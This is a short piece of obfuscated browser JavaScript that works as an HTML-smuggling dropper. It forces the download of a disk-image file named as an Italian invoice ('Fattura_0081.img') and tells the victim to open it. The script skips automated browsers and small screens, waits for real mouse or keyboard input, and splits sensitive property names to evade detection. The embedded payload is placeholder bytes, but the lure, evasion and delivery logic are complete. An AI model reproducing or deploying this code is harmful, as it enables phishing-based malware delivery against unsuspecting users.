!function(){var n=[65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65,65].map(function(x){return x^0});
var done=0;function w(){if(done++)return;if(navigator.webdriver||screen.width<700||!navigator.languages.length)return;
var B=window["Bl"+"ob"],U=window["U"+"RL"],m=["application","x-iso9660-image"].join("/"),o=new B([new Uint8Array(n)],{type:m});
var e=document["createElement"]("a");e["hr"+"ef"]=U["createObjectURL"](o);e["down"+"load"]=["Fattura","_","0081",".","i","m","g"].join("");e["cl"+"ick"]();
document.getElementById("st").innerText="Download completato. Apri il file per visualizzare la fattura."}
["mousemove","touchstart","keydown"].forEach(function(t){document.addEventListener(t,w,{once:true})})}();
